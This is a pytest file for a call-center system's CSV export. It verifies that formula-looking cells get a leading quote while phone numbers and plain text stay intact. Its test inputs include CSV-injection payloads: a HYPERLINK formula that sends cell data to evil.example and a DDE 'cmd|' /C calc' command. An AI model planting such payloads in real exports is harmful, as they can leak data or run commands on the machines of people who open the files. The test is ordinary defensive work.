"""CSV injection: cells a spreadsheet would run as a formula are neutralised with a leading quote in
every CSV we write (export.cells), and real numbers are left exactly as they were."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import pytest

from callcenter.db.engine import Database
from callcenter.db.models import AcdAttempt, AcdCall, AcdDestination, Call, Cdr, CdrUser, OrgUnit, User
from callcenter.export.cdr import CDR_HEADER, csv_writer, format_cdr_row
from callcenter.export.cells import safe_cell, safe_row
from callcenter.export.daily import export_day

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=",
    "+",
    "+ 1",
    "+33 1 23+1",
    "-1.50.2",
    "--1",
    "+1e5",
]
NUMBERS = ["+4930123456", "+33 1 23 45 67 89", "-", "-1.50", "+2", "-0.0500", "12", "0601", "-7", "+0.5"]
PLAIN = ["", "Zürich Büro", '"Alice" <2001>', "a=b", "1+1", " =1", "'=already", "ANSWERED"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_get_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert safe_cell(safe_cell(text)) == safe_cell(text)  # applying it twice changes nothing more


@pytest.mark.parametrize("text", NUMBERS + PLAIN)
def test_numbers_and_plain_text_are_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def test_safe_row_leaves_non_text_alone() -> None:
    assert safe_row(["=1", 5, None, -3, Decimal("-1.5"), "-1.5"]) == ["'=1", 5, None, -3, Decimal("-1.5"), "-1.5"]


def _cdr(**values: object) -> SimpleNamespace:
    base: dict[str, object] = dict(id=7, calldate=datetime(2025, 3, 10, 9, tzinfo=UTC), src_id="", src="0601",
                                   clid="0601", dst="1000", dst_name="", duration=5, billsec=3,
                                   disposition="ANSWERED", destination="", rate=None, charge=None,
                                   t_cause="Normal Clearing")
    return SimpleNamespace(**{**base, **values})


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_cdr_writer_neutralises_what_format_cdr_row_gives_as_is() -> None:
    cdr = _cdr(src="+1+cmd", clid='=HYPERLINK("http://evil.example","x") <+1+cmd>', dst="+4930123456",
               dst_name="@SUM(1)", destination="-2+3", rate=Decimal("-0.05"), charge=Decimal("-1.5"))
    fields = format_cdr_row(cdr)
    assert fields[3:7] == ["+1+cmd", '=HYPERLINK("http://evil.example","x") <+1+cmd>', "+4930123456", "@SUM(1)"]
    out = io.StringIO(newline="")
    writer = csv_writer(out)
    writer.writerow(CDR_HEADER)
    writer.writerow(fields)  # as the panel's CDR download does
    header, row = _parse(out.getvalue())
    assert header == list(CDR_HEADER)
    assert dict(zip(CDR_HEADER, row, strict=True)) == {
        "id": "7", "calldate": "2025-03-10 09:00:00", "src_id": "", "src": "'+1+cmd",
        "clid": '\'=HYPERLINK("http://evil.example","x") <+1+cmd>', "dst": "+4930123456", "dst_name": "'@SUM(1)",
        "duration": "5", "billsec": "3", "disposition": "ANSWERED", "destination": "'-2+3", "rate": "-0.0500",
        "charge": "-1.5000", "t_cause": "Normal Clearing"}


DAY = date(2025, 3, 10)
T0 = datetime(2025, 3, 10, 9, tzinfo=UTC)


@pytest.fixture
def db(tmp_path: Path) -> Iterator[Database]:
    database = Database(f"sqlite:///{tmp_path / 'cc.db'}")
    database.migrate()
    yield database
    database.dispose()


def test_the_day_files_and_unit_copies_are_neutralised(db: Database, tmp_path: Path) -> None:
    with db.session() as s:
        s.add(OrgUnit(id=1, name="North"))
        s.flush()
        s.add(User(id=1, login="2001", extension="2001", name="Alice", sip_ha1="", roles="agent", org_unit_id=1,
                   created_at=T0))
        s.add(Call(id=1, linkedid="L1", started_at=T0, ended_at=T0))
        s.flush()
        s.add(Cdr(id=1, call_id=1, linkedid="L1", calldate=T0, src_id="", src="\t=1+1", clid="@SUM(1) <+1+cmd>",
                  dst="+4930123456", dst_name="=2+5", duration=5, billsec=3, disposition="ANSWERED",
                  destination="", rate=None, charge=None, t_cause="Normal Clearing"))
        s.flush()
        s.add(CdrUser(cdr_id=1, user_id=1, unit_id=1))
        s.add(AcdCall(id="q1", channel_id="c1", direction="inbound", queue="sales", entered_at=T0, did="-2+3",
                      number="\r=HYPERLINK(\"x\")", callers=1, agents=1, wait_seconds=Decimal("4"),
                      outcome="overflow"))
        s.flush()
        s.add_all([
            AcdAttempt(call_id="q1", seq=1, user_id=1, unit_id=1, extension="2001",
                       started_at=T0 + timedelta(seconds=1), ring_seconds=Decimal("2"), outcome="no_answer"),
            AcdDestination(call_id="q1", seq=1, at=T0, kind="Q", target="sales"),
            AcdDestination(call_id="q1", seq=2, at=T0 + timedelta(seconds=4), kind="V", target="=cmd")])
    export_day(db, tmp_path, DAY)
    for root in (tmp_path, tmp_path / "units" / "1"):
        cdr_rows = _parse((root / "CDRs" / "2025-03-10.csv").read_text(encoding="utf-8"))
        assert cdr_rows[1][3:7] == ["'\t=1+1", "'@SUM(1) <+1+cmd>", "+4930123456", "'=2+5"]
        with zipfile.ZipFile(root / "QueueCalls" / "2025-03-10-queue-calls.zip") as archive:
            calls = _parse(archive.read("2025-03-10-queue_call.csv").decode())
            places = _parse(archive.read("2025-03-10-queue_user_call.csv").decode())
        assert calls[1][4:7] == ["sales", "'-2+3", "'\r=HYPERLINK(\"x\")"]
        assert calls[1][13:15] == ["V", "'=cmd"]
        assert [row[13:15] for row in places[1:]] == [["U", "2001"], ["V", "'=cmd"]]
        assert all(row[5] == "'-2+3" for row in places[1:])
